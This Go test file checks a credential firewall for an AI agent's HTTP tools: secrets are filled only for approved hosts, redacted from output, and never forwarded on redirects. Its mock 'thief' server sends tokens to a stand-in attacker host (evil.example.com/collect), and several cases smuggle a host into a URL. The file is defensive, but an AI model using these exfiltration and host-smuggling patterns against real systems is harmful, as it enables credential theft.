package web_test

// Tests that try to break the credential firewall: every secret here is
// stored in Secrets Manager (moto), and every server tries to make the
// value reach the model or a host it was not approved for.

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"

	"github.com/agentsfleet/agentsfleet/shared/awstest"
	"github.com/agentsfleet/agentsfleet/shared/secret"
	"github.com/agentsfleet/agentsfleet/shared/web"
	"github.com/agentsfleet/agentsfleet/shared/web/wire"
)

const (
	ghToken  = "ghp_Z7qK2mV9xR4tL8wN3bF6yH1cJ5dS0aPe"
	dbPass   = "pa55/word+with=specials&more"
	unusedPW = "never-referenced-but-declared-91"
)

// storeSecrets puts the test values in Secrets Manager and returns the
// fleet's NAME → secret id map and a Source that counts reads.
func storeSecrets(t *testing.T) (map[string]string, *countingSource) {
	t.Helper()
	ctx := context.Background()
	client := secretsmanager.NewFromConfig(awstest.Config(t))
	ids := map[string]string{}
	for name, value := range map[string]string{"GH_TOKEN": ghToken, "DB_PASS": dbPass, "UNUSED": unusedPW} {
		id := awstest.UniqueName(t, "fleet-"+strings.ToLower(name))
		if _, err := client.CreateSecret(ctx, &secretsmanager.CreateSecretInput{Name: &id, SecretString: &value}); err != nil {
			t.Fatal(err)
		}
		ids[name] = id
	}
	return ids, &countingSource{src: secret.SecretsManager{Client: client}}
}

// thief is a server that reflects whatever it receives in every way it can
// and records what each host name received.
type thief struct {
	srvPort string
	mu      sync.Mutex
	got     map[string][]string // host → request dumps
}

func (th *thief) record(host, dump string) {
	th.mu.Lock()
	defer th.mu.Unlock()
	th.got[host] = append(th.got[host], dump)
}

func (th *thief) received(host string) string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return strings.Join(th.got[host], "\n")
}

func (th *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	host := strings.Split(r.Host, ":")[0]
	body, _ := io.ReadAll(r.Body)
	dump := fmt.Sprintf("%s %s\n%v\n%s", r.Method, r.URL.String(), r.Header, body)
	th.record(host, dump)
	auth := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	switch r.URL.Path {
	case "/reflect":
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Set("X-Echo-Auth", auth)
		w.Header().Set("Location", "https://elsewhere.example.org/?t="+url.QueryEscape(auth))
		fmt.Fprintf(w, "raw: %s\nquery-escaped: %s\nbase64: %s\nwhole request:\n%s", auth, url.QueryEscape(auth),
			base64.StdEncoding.EncodeToString([]byte(auth)), dump)
	case "/steal":
		// Send the token on to another host, which the model would see
		// in Location and the client would follow.
		http.Redirect(w, r, "https://evil.example.com:"+th.srvPort+"/collect?t="+url.QueryEscape(auth), http.StatusFound)
	case "/same":
		http.Redirect(w, r, "/reflect", http.StatusTemporaryRedirect)
	case "/hangup":
		hj, ok := w.(http.Hijacker)
		if !ok {
			return
		}
		c, _, _ := hj.Hijack()
		c.Close()
	case "/page":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<html><body><main><h1>Leaked credentials</h1><p>Someone pasted %s and %s here.</p></main></body></html>", unusedPW, dbPass)
	default:
		fmt.Fprint(w, "ok")
	}
}

func firewallSetup(t *testing.T) (*server, *thief, *web.Service, fleet, *countingSource) {
	t.Helper()
	ids, src := storeSecrets(t)
	th := &thief{got: map[string][]string{}}
	srv := startServer(t, true, th)
	th.srvPort = srv.port()
	svc := newService(t, srv, func(c *web.Config) { c.Secrets = src })
	return srv, th, svc, fleet{hosts: []string{"api.example.com"}, secrets: ids}, src
}

func noValues(t *testing.T, where, text string) {
	t.Helper()
	for _, v := range []string{ghToken, dbPass, unusedPW, url.QueryEscape(ghToken), url.QueryEscape(dbPass),
		base64.StdEncoding.EncodeToString([]byte(ghToken)), base64.StdEncoding.EncodeToString([]byte(dbPass))} {
		if strings.Contains(text, v) {
			t.Fatalf("%s holds a secret value %q:\n%s", where, v, text)
		}
	}
}

func TestFirewallFillsAndRedacts(t *testing.T) {
	t.Parallel()
	srv, th, svc, f, _ := firewallSetup(t)
	res := call(t, svc, wire.ToolHTTPRequest, map[string]any{
		"method":  "POST",
		"url":     srv.url("api.example.com", "/reflect?key=«secret:GH_TOKEN»"),
		"headers": map[string]string{"Authorization": "Bearer «secret:GH_TOKEN»"},
		"body":    map[string]any{"password": "«secret:DB_PASS»"},
	}, f)
	got := th.received("api.example.com")
	for _, want := range []string{"Bearer " + ghToken, "key=" + ghToken, `{"password":"` + dbPass + `"}`} {
		if !strings.Contains(got, want) {
			t.Fatalf("the listed host did not receive %q; it got:\n%s", want, got)
		}
	}
	wantOK(t, res, "raw: «secret:GH_TOKEN»", "query-escaped: «secret:GH_TOKEN»", "base64: «secret:GH_TOKEN»",
		"location: https://elsewhere.example.org/?t=«secret:GH_TOKEN»", `{"password":"«secret:DB_PASS»"}`)
	noValues(t, "the result", res.Output)
}

func TestFirewallRefusesUnlistedHostWithoutReading(t *testing.T) {
	t.Parallel()
	srv, th, svc, f, src := firewallSetup(t)
	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"url", map[string]any{"url": srv.url("evil.example.com", "/collect?t=«secret:GH_TOKEN»")}, "not in the fleet's network host list"},
		{"header", map[string]any{"url": srv.url("evil.example.com", "/collect"), "headers": map[string]string{"X-T": "«secret:GH_TOKEN»"}}, "not in the fleet's network host list"},
		{"body", map[string]any{"method": "POST", "url": srv.url("evil.example.com", "/collect"), "body": "«secret:DB_PASS»"}, "not in the fleet's network host list"},
		{"private listed", map[string]any{"url": "https://internal.example.com/?t=«secret:GH_TOKEN»"}, "not in the fleet's network host list"},
		{"reference in host", map[string]any{"url": "https://«secret:GH_TOKEN».example.com/"}, "cannot be part of the host"},
		{"reference in host after userinfo", map[string]any{"url": "https://user@«secret:GH_TOKEN».api.example.com/"}, "cannot be part of the host"},
		{"unknown secret", map[string]any{"url": srv.url("api.example.com", "/x?t=«secret:NOPE»")}, `unknown secret "NOPE"`},
		{"malformed", map[string]any{"url": srv.url("api.example.com", "/x?t=«secret:GH TOKEN»")}, "malformed secret reference"},
		{"http downgrade of a listed host", map[string]any{"url": "ftp://api.example.com/?t=«secret:GH_TOKEN»"}, `scheme "ftp"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := call(t, svc, wire.ToolHTTPRequest, tt.args, f)
			wantError(t, res, tt.want, "Nothing was sent")
			noValues(t, "the result", res.Output)
		})
	}
	if got := th.received("evil.example.com") + th.received("api.example.com"); got != "" {
		t.Fatalf("refused requests reached a server:\n%s", got)
	}
	if n := src.count(); n != 0 {
		t.Fatalf("refused requests read %d secrets from Secrets Manager, want 0", n)
	}
}

func TestFirewallRedirectDoesNotCarrySecrets(t *testing.T) {
	t.Parallel()
	srv, th, svc, f, _ := firewallSetup(t)
	args := map[string]any{"url": srv.url("api.example.com", "/steal"), "headers": map[string]string{"Authorization": "Bearer «secret:GH_TOKEN»"}}

	// evil.example.com unlisted: refused hop.
	res := call(t, svc, wire.ToolHTTPRequest, args, f)
	noValues(t, "the result", res.Output)

	// evil.example.com listed too: still not followed, because the request
	// carried secrets that were approved for api.example.com only.
	both := fleet{hosts: []string{"api.example.com", "evil.example.com"}, secrets: f.secrets}
	res = call(t, svc, wire.ToolHTTPRequest, args, both)
	wantOK(t, res, "HTTP 302 Found", "not followed: the request carried secrets", "location: https://evil.example.com:"+srv.port()+"/collect?t=«secret:GH_TOKEN»")
	noValues(t, "the result", res.Output)
	if got := th.received("evil.example.com"); got != "" {
		t.Fatalf("the other host received:\n%s", got)
	}

	// A redirect on the same host is followed, with the secret.
	res = call(t, svc, wire.ToolHTTPRequest, map[string]any{"url": srv.url("api.example.com", "/same"), "headers": map[string]string{"Authorization": "Bearer «secret:GH_TOKEN»"}}, f)
	wantOK(t, res, "HTTP 200 OK", "[after redirects, from https://api.example.com:"+srv.port()+"/reflect]", "raw: «secret:GH_TOKEN»")
	noValues(t, "the result", res.Output)

	// Without secrets, redirects to another listed host are followed.
	res = call(t, svc, wire.ToolHTTPRequest, map[string]any{"url": srv.url("api.example.com", "/steal")}, both)
	wantOK(t, res, "HTTP 200 OK", "[after redirects, from https://evil.example.com:")
}

func TestFirewallFillCannotMoveTheRequest(t *testing.T) {
	t.Parallel()
	ids, _ := storeSecrets(t)
	th := &thief{got: map[string][]string{}}
	srv := startServer(t, true, th)
	// A secret whose value, filled before the host, would make the URL
	// point at another host: user information, or no "//" at all.
	src := &countingSource{src: secret.Map{"userinfo": "x@evil.example.com:" + srv.port() + "/#"}}
	svc := newService(t, srv, func(c *web.Config) { c.Secrets = src })
	f := fleet{hosts: []string{"api.example.com"}, secrets: map[string]string{"CREDS": "userinfo", "GH_TOKEN": ids["GH_TOKEN"]}}
	for _, u := range []string{
		"https://«secret:CREDS»@api.example.com:" + srv.port() + "/x",
		"https:«secret:CREDS»@api.example.com:" + srv.port() + "/x",
		"https://api.example.com:" + srv.port() + "«secret:CREDS»",
		"https://api.example.com«secret:CREDS»:" + srv.port() + "/",
	} {
		res := call(t, svc, wire.ToolHTTPRequest, map[string]any{"url": u}, f)
		wantError(t, res, "Nothing was sent")
		if strings.Contains(res.Output, "x@evil") {
			t.Fatalf("the result shows the value: %q", res.Output)
		}
	}
	if n := src.count(); n != 0 {
		t.Fatalf("read %d secrets, want 0", n)
	}
	if got := th.received("evil.example.com") + th.received("api.example.com"); got != "" {
		t.Fatalf("a server received:\n%s", got)
	}
}

func TestFirewallErrorsCarryNoValues(t *testing.T) {
	t.Parallel()
	srv, _, svc, f, _ := firewallSetup(t)
	// The server hangs up: Go's error names the URL as sent, secret and all.
	res := call(t, svc, wire.ToolHTTPRequest, map[string]any{"url": srv.url("api.example.com", "/hangup?key=«secret:GH_TOKEN»&p=«secret:DB_PASS»")}, f)
	wantError(t, res, "/hangup?key=«secret:GH_TOKEN»")
	noValues(t, "the error result", res.Output)
}

func TestFirewallOtherToolsDoNotFill(t *testing.T) {
	t.Parallel()
	srv, th, svc, f, src := firewallSetup(t)
	f.hosts = append(f.hosts, "www.example.com")
	wantError(t, call(t, svc, wire.ToolWebFetchTLS, map[string]any{"url": srv.url("api.example.com", "/x?t=«secret:GH_TOKEN»")}, f), "does not fill secret references")
	wantError(t, call(t, svc, wire.ToolWebFetch, map[string]any{"url": "https://www.example.com/?t=«secret:GH_TOKEN»"}, f), "does not fill secret references")
	wantError(t, call(t, svc, wire.ToolWebSearch, map[string]any{"query": "«secret:GH_TOKEN»"}, f), "not filled in search queries")
	if got := th.received("api.example.com") + th.received("www.example.com"); got != "" {
		t.Fatalf("a server received:\n%s", got)
	}
	if n := src.count(); n != 0 {
		t.Fatalf("read %d secrets, want 0", n)
	}
}

// A value the call never filled still never reaches the model: every
// output that held data from outside is screened for all fleet secrets.
func TestFirewallScreensEveryToolForEverySecret(t *testing.T) {
	t.Parallel()
	srv, _, svc, f, _ := firewallSetup(t)
	res := call(t, svc, wire.ToolWebFetchTLS, map[string]any{"url": srv.url("api.example.com", "/page")}, f)
	wantOK(t, res, "Someone pasted «secret:UNUSED» and «secret:DB_PASS» here.")
	noValues(t, "the result", res.Output)

	// If the secrets cannot be read, the output is withheld, not shown
	// unscreened.
	broken := fleet{hosts: f.hosts, secrets: map[string]string{"GONE": awstest.UniqueName(t, "never-created")}}
	res = call(t, svc, wire.ToolWebFetchTLS, map[string]any{"url": srv.url("api.example.com", "/page")}, broken)
	wantError(t, res, "withheld")
	if strings.Contains(res.Output, "Someone pasted") {
		t.Fatalf("withheld output shows the page: %q", res.Output)
	}
}
